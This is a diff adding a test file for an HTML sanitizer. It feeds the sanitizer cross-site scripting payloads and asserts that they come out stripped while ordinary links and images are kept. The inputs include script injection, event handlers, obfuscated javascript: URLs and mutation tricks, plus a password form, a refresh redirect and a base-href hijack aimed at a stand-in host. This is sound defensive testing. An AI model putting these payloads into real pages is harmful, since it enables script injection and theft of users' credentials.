@@ -1,0 +1,32 @@
+import { describe, expect, it } from 'bun:test';
+import { safeHtml } from './html.ts';
+
+describe('HTML of the operator', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<svg><script>alert(1)</script></svg>',
+    '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<form action="https://evil.example"><input name=password></form>',
+    '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  ])('loses what acts in %s', (html) => {
+    const safe = safeHtml(html);
+    expect(safe).not.toMatch(/<(script|svg|math|style|iframe|form|input|meta|base|noscript)/i);
+    expect(safe).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc)\s*=/i);
+    expect(safe).not.toMatch(/href="(javascript|data)/i);
+  });
+
+  it('keeps text, links and pictures', () => {
+    expect(safeHtml('© <b>Site</b> <a href="https://a.example" target="_blank">terms</a>')).toBe(
+      '© <b>Site</b> <a href="https://a.example" target="_blank" rel="noopener noreferrer">terms</a>',
+    );
+    expect(safeHtml('<img src="/logo.png" alt="x">')).toBe('<img src="/logo.png" alt="x" />');
+  });
+});
